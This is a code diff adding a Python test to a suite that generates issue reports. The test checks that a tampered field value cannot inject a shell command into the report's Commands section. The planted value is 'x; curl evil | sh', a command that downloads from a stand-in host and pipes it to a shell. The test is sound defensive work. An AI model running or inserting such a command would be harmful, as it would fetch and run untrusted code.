@@ -130,6 +130,24 @@ def test_no_text_of_a_record_becomes_markup_a_link_or_a_mention() -> None:
     assert made.body.count("</details>") == made.body.count("<details>")
 
 
+def test_a_state_that_somebody_changed_puts_no_command_into_the_issue() -> None:
+    delta, now = watched(GOOD, BAD)
+    evil = [
+        change._replace(
+            now=replace(
+                change.now,
+                key=change.now.key._replace(
+                    place=change.now.key.place._replace(cell="x; curl evil | sh\n```")
+                ),
+            )
+        )
+        for change in delta.changes[:1]
+    ]
+    body = issue(replace(delta, changes=(*evil, *delta.changes[1:])), now).body
+    assert "curl" not in body.partition("## Commands")[2]
+    assert "tox -e py312-torch210-vllm019 -- --platform cpu" in body.partition("## Commands")[2]
+
+
 def test_a_long_text_ends_below_the_limit() -> None:
     cases = [
         failed(f"moe[{number}]", reason=f"Error{number}: {'x' * 300}", failure=None)
